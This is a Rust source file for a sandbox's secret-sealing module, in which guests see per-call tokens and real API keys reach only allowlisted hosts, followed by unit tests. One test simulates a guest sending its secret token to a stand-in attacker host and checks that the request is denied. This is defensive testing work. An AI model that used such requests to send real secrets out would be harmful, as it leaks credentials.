//! Secrets a destination uses without ever holding them.
//!
//! Where it sits: beside [`super::http`], on the way out of the sandbox. A
//! destination declares its secrets in the config (`secrets = { api_key = {
//! from = "env:AMP_KEY", hosts = ["https://api2.amplitude.com"] } }`), and
//! its settings name them as `"${secret:api_key}"`. The config reads each value
//! once into [`Secrets`]. Every call into a guest gets a [`Sealed`] view with a
//! fresh random nonce:
//! - the settings the guest reads carry an opaque token in place of each
//!   `${secret:NAME}` ([`Sealed::seal_settings`]), so no guest ever holds a
//!   value, and a token seen in one call (a log line, an event) is worth nothing
//!   in the next;
//! - a request the guest sends has this call's tokens replaced by the values
//!   (URL, headers, `Authorization: Basic` credentials, body), but only when
//!   the request goes to one of that secret's `hosts`; otherwise it is denied
//!   ([`Sealed::open`]);
//! - an answer that carries a value back (a vendor echoing a key in an error)
//!   has it replaced by the token before the guest reads it
//!   ([`Sealed::seal_response`]), and the host's own error texts are redacted
//!   ([`Sealed::redact`]);
//! - the crypto import takes a secret as a key by its name or its token
//!   ([`Sealed::key`]), so a signature can be made with a key the guest never sees.

use std::sync::Arc;

use base64::Engine as _;

use super::http::{Error, Request, Response};
use crate::allowlist::Allowlist;

/// How settings name a secret: `${secret:NAME}`.
pub const PLACEHOLDER: (&str, &str) = ("${secret:", "}");

/// The shortest value accepted: a shorter one could not be told apart from
/// other text when answers are redacted.
pub const MIN_VALUE_CHARS: usize = 8;

/// One secret of a destination.
pub struct Secret {
    /// Its name in the config (`[a-z0-9_]`).
    pub name: String,
    /// The value, read once from the environment or a file.
    value: String,
    /// Where a request carrying it may go.
    hosts: Allowlist,
}

impl Secret {
    /// A secret `name` with `value`, that may be sent to `hosts`.
    pub fn new(name: String, value: String, hosts: Allowlist) -> Secret {
        Secret { name, value, hosts }
    }
}

/// A destination's secrets (cheap to clone). `Debug` shows names only.
#[derive(Clone, Default)]
pub struct Secrets {
    list: Arc<[Secret]>,
}

impl std::fmt::Debug for Secrets {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_list()
            .entries(self.list.iter().map(|s| &s.name))
            .finish()
    }
}

impl PartialEq for Secrets {
    fn eq(&self, other: &Secrets) -> bool {
        self.list.len() == other.list.len()
            && self
                .list
                .iter()
                .zip(other.list.iter())
                .all(|(a, b)| a.name == b.name && a.value == b.value && a.hosts == b.hosts)
    }
}

impl Secrets {
    /// These secrets.
    pub fn new(list: Vec<Secret>) -> Secrets {
        Secrets { list: list.into() }
    }

    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.list.is_empty()
    }

    /// Their names.
    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.list.iter().map(|s| s.name.as_str())
    }

    /// `text` with every value replaced by `[secret NAME]` (for texts the host
    /// writes itself: logs, reasons, recordings).
    pub fn redact(&self, text: &str) -> String {
        let mut out = text.to_string();
        for s in self.list.iter() {
            if out.contains(&s.value) {
                out = out.replace(&s.value, &format!("[secret {}]", s.name));
            }
        }
        out
    }
}

/// The names of the `${secret:NAME}` placeholders in `text`, in order.
pub fn placeholders(text: &str) -> Vec<&str> {
    let mut names = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find(PLACEHOLDER.0) {
        let after = &rest[at + PLACEHOLDER.0.len()..];
        match after.find(PLACEHOLDER.1) {
            Some(end) => {
                names.push(&after[..end]);
                rest = &after[end + 1..];
            }
            None => break,
        }
    }
    names
}

/// The secrets of one call into a guest, under a nonce of its own.
pub struct Sealed {
    /// 128 random bits, hex: part of every token of this call.
    nonce: String,
    /// The destination's secrets.
    secrets: Secrets,
}

impl Sealed {
    /// A fresh view of `secrets` for one call.
    pub fn new(secrets: Secrets) -> Sealed {
        Sealed {
            nonce: format!("{:032x}", rand::random::<u128>()),
            secrets,
        }
    }

    /// What the guest sees in place of secret `name` during this call.
    fn token(&self, name: &str) -> String {
        format!("sy-secret-{name}-{}", self.nonce)
    }

    /// The settings as the guest reads them: each `${secret:NAME}` becomes this
    /// call's token for NAME (the config refused names it does not declare).
    pub fn seal_settings(&self, settings: &str) -> String {
        let mut out = settings.to_string();
        for s in self.secrets.list.iter() {
            let placeholder = format!("{}{}{}", PLACEHOLDER.0, s.name, PLACEHOLDER.1);
            if out.contains(&placeholder) {
                out = out.replace(&placeholder, &self.token(&s.name));
            }
        }
        out
    }

    /// A secret's value as a key for the crypto import, by its name or its token.
    pub fn key(&self, name_or_token: &str) -> Option<&[u8]> {
        self.secrets
            .list
            .iter()
            .find(|s| s.name == name_or_token || self.token(&s.name) == name_or_token)
            .map(|s| s.value.as_bytes())
    }

    /// The request as it is sent: this call's tokens replaced by their values
    /// where the request's URL is one of each secret's hosts; denied otherwise.
    pub fn open(&self, mut req: Request) -> Result<Request, Error> {
        let carries = |token: &str| {
            req.url.contains(token)
                || req.headers.iter().any(|(k, v)| {
                    v.contains(token) || basic_credentials(k, v).is_some_and(|c| c.contains(token))
                })
                || find(&req.body, token.as_bytes()).is_some()
        };
        let used: Vec<(&Secret, String)> = self
            .secrets
            .list
            .iter()
            .map(|s| (s, self.token(&s.name)))
            .filter(|(_, token)| carries(token))
            .collect();
        if used.is_empty() {
            return Ok(req);
        }
        let url = reqwest::Url::parse(&req.url)
            .map_err(|e| Error::Denied(format!("bad URL `{}`: {e}", req.url)))?;
        for (s, _) in &used {
            if s.hosts.check(&url).is_err() {
                return Err(Error::Denied(format!(
                    "secret `{}` may not be sent to {}://{}: not one of its hosts",
                    s.name,
                    url.scheme(),
                    url.host_str().unwrap_or("")
                )));
            }
        }
        let content_type = req
            .headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("content-type"))
            .map(|(_, v)| v.to_ascii_lowercase())
            .unwrap_or_default();
        for (s, token) in &used {
            req.url = req.url.replace(token, &percent_encode(&s.value));
            for (k, v) in req.headers.iter_mut() {
                if let Some(credentials) = basic_credentials(k, v).filter(|c| c.contains(token)) {
                    let opened = credentials.replace(token, &s.value);
                    *v = format!(
                        "Basic {}",
                        base64::engine::general_purpose::STANDARD.encode(opened)
                    );
                } else if v.contains(token) {
                    *v = v.replace(token, &s.value);
                }
            }
            let value = if content_type.contains("json") {
                json_escaped(&s.value)
            } else if content_type.contains("x-www-form-urlencoded") {
                percent_encode(&s.value)
            } else {
                s.value.clone()
            };
            req.body = replace(&req.body, token.as_bytes(), value.as_bytes());
        }
        Ok(req)
    }

    /// The answer as the guest reads it: any value it carries (as sent, or
    /// JSON-escaped) replaced by this call's token.
    pub fn seal_response(&self, mut resp: Response) -> Response {
        for s in self.secrets.list.iter() {
            let token = self.token(&s.name);
            for form in [s.value.clone(), json_escaped(&s.value)] {
                resp.body = replace(&resp.body, form.as_bytes(), token.as_bytes());
                for (_, v) in resp.headers.iter_mut() {
                    if v.contains(&form) {
                        *v = v.replace(&form, &token);
                    }
                }
            }
        }
        resp
    }

    /// `text` with every value replaced by `[secret NAME]`.
    pub fn redact(&self, text: &str) -> String {
        self.secrets.redact(text)
    }
}

/// The `user:password` of an `Authorization: Basic` header, decoded.
fn basic_credentials(name: &str, value: &str) -> Option<String> {
    if !name.eq_ignore_ascii_case("authorization") {
        return None;
    }
    let (scheme, encoded) = value.trim().split_once(' ')?;
    if !scheme.eq_ignore_ascii_case("basic") {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(encoded.trim())
        .ok()?;
    String::from_utf8(bytes).ok()
}

/// `value` as it appears inside a JSON string (without the quotes).
fn json_escaped(value: &str) -> String {
    let quoted = serde_json::Value::String(value.to_string()).to_string();
    quoted[1..quoted.len() - 1].to_string()
}

/// `value` percent-encoded for a URL query or a form body.
fn percent_encode(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Where `needle` first occurs in `hay`.
fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || hay.len() < needle.len() {
        return None;
    }
    hay.windows(needle.len()).position(|w| w == needle)
}

/// `hay` with every `needle` replaced by `with`.
fn replace(hay: &[u8], needle: &[u8], with: &[u8]) -> Vec<u8> {
    let Some(first) = find(hay, needle) else {
        return hay.to_vec();
    };
    let mut out = Vec::with_capacity(hay.len() + with.len());
    out.extend_from_slice(&hay[..first]);
    out.extend_from_slice(with);
    let mut rest = &hay[first + needle.len()..];
    while let Some(at) = find(rest, needle) {
        out.extend_from_slice(&rest[..at]);
        out.extend_from_slice(with);
        rest = &rest[at + needle.len()..];
    }
    out.extend_from_slice(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str = "amp-key-\"q\"/s3cr3t";

    fn secrets() -> Secrets {
        Secrets::new(vec![Secret::new(
            "api_key".into(),
            KEY.into(),
            Allowlist::parse(&["https://api2.amplitude.com".to_string()]).unwrap(),
        )])
    }

    fn request(url: &str, headers: &[(&str, &str)], body: &str) -> Request {
        Request {
            method: "POST".into(),
            url: url.into(),
            headers: headers
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            body: body.as_bytes().to_vec(),
        }
    }

    #[test]
    fn the_guest_reads_a_token_and_the_vendor_gets_the_value() {
        let sealed = Sealed::new(secrets());
        let settings = sealed.seal_settings(r#"{"api_key":"${secret:api_key}","n":1}"#);
        assert!(
            !settings.contains(KEY) && !settings.contains("${secret:"),
            "{settings}"
        );
        let token: String = serde_json::from_str::<serde_json::Value>(&settings).unwrap()
            ["api_key"]
            .as_str()
            .unwrap()
            .to_string();
        let body = format!(r#"{{"api_key":"{token}","events":[]}}"#);
        let sent = sealed
            .open(request(
                &format!("https://api2.amplitude.com/2/httpapi?key={token}"),
                &[
                    ("content-type", "application/json"),
                    ("x-key", &token),
                    (
                        "authorization",
                        &format!(
                            "Basic {}",
                            base64::engine::general_purpose::STANDARD.encode(format!("u:{token}"))
                        ),
                    ),
                ],
                &body,
            ))
            .unwrap();
        let sent_body: serde_json::Value = serde_json::from_slice(&sent.body).unwrap();
        assert_eq!(sent_body["api_key"], KEY, "JSON-escaped into the body");
        assert!(
            sent.url.ends_with("key=amp-key-%22q%22%2Fs3cr3t"),
            "{}",
            sent.url
        );
        assert_eq!(sent.headers[1].1, KEY);
        assert_eq!(
            basic_credentials("authorization", &sent.headers[2].1).unwrap(),
            format!("u:{KEY}")
        );
        assert_eq!(sealed.key(&token), Some(KEY.as_bytes()));
        assert_eq!(sealed.key("api_key"), Some(KEY.as_bytes()));
        assert_eq!(sealed.key("other"), None);
    }

    #[test]
    fn a_token_bound_for_another_host_is_denied_and_other_tokens_are_left_alone() {
        let sealed = Sealed::new(secrets());
        let token = sealed.token("api_key");
        let err = sealed
            .open(request("https://evil.example/collect", &[], &token))
            .unwrap_err();
        assert!(
            matches!(&err, Error::Denied(why) if why.contains("secret `api_key` may not be sent to https://evil.example")),
            "{err:?}"
        );
        // The placeholder itself, and another call's token, are just text.
        let other = Sealed::new(secrets()).token("api_key");
        let body = format!("${{secret:api_key}} {other}");
        let sent = sealed
            .open(request("https://evil.example/collect", &[], &body))
            .unwrap();
        assert_eq!(sent.body, body.as_bytes());
    }

    #[test]
    fn an_echoed_value_reaches_the_guest_as_the_token_and_host_texts_are_redacted() {
        let sealed = Sealed::new(secrets());
        let token = sealed.token("api_key");
        let escaped = json_escaped(KEY);
        let resp = sealed.seal_response(Response {
            status: 401,
            headers: vec![("x-echo".into(), KEY.into())],
            body: format!(r#"{{"error":"invalid key {escaped}", "raw": "{KEY}"}}"#).into_bytes(),
        });
        let body = String::from_utf8(resp.body).unwrap();
        assert!(!body.contains(KEY) && !body.contains(&escaped), "{body}");
        assert!(body.contains(&token));
        assert_eq!(resp.headers[0].1, token);
        assert_eq!(
            sealed.redact(&format!("connect to https://x/?k={KEY} failed")),
            "connect to https://x/?k=[secret api_key] failed"
        );
    }

    #[test]
    fn placeholders_are_found_in_order() {
        assert_eq!(
            placeholders("a ${secret:one} b ${secret:two}${secret:"),
            ["one", "two"]
        );
        assert!(placeholders("${SECRET}").is_empty());
        assert_eq!(format!("{:?}", secrets()), r#"["api_key"]"#);
    }
}
